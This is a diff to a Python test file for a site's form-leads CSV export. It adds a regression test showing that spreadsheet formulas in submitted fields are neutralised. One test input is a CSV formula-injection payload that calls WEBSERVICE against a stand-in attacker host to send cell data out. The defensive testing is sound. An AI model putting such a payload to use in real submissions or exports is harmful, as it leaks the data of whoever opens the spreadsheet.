@@ -31,8 +31,8 @@ async def test_inbox_marks_deletes_and_exports(owner: Owner, stack: Stack, clock
     assert "attachment" in str(export.header("content-disposition"))
     text = export.body.decode("utf-8-sig")
     lines = text.splitlines()
-    assert lines[0] == "received (UTC),name,email,phone,message,page"
-    assert "'=HYPERLINK(1)" in lines[1]  # a formula is never live in the spreadsheet
+    assert lines[0] == '"received (UTC)","name","email","phone","message","page"'  # every field quoted
+    assert '"\'=HYPERLINK(1)"' in lines[1]  # a formula is never live in the spreadsheet
     assert '"Two loaves' in text
 
     assert (await owner.call("DELETE", f"{base}/{newest}")).status == 204
@@ -44,3 +44,15 @@ async def test_another_owner_cannot_read_the_inbox(owner: Owner, stack: Stack) -
     site, _ = await form_site(owner)
     owner.browser.cookie = ""
     assert (await owner.call("GET", f"/api/v1/sites/{site['id']}/leads.csv")).status == 401
+
+
+async def test_a_formula_after_a_separator_is_neutralised_too(owner: Owner, stack: Stack) -> None:
+    """Issue 23, L3: `x;=WEBSERVICE(...)` became a live formula in semicolon-separated spreadsheets."""
+    site, block = await form_site(owner)
+    sneaky = {**LEAD, "name": 'x;=WEBSERVICE("http://evil.example/?"&A1)', "message": "hi,@SUM(1)"}
+    assert (await submit(stack, site["id"], block, sneaky)).status == 303
+    text = (await owner.call("GET", f"/api/v1/sites/{site['id']}/leads.csv")).body.decode("utf-8-sig")
+    for separator in (",", ";"):
+        for line in text.splitlines()[1:]:
+            for part in line.split(separator):
+                assert not part.lstrip('"').startswith(("=", "+", "@")), (separator, part)
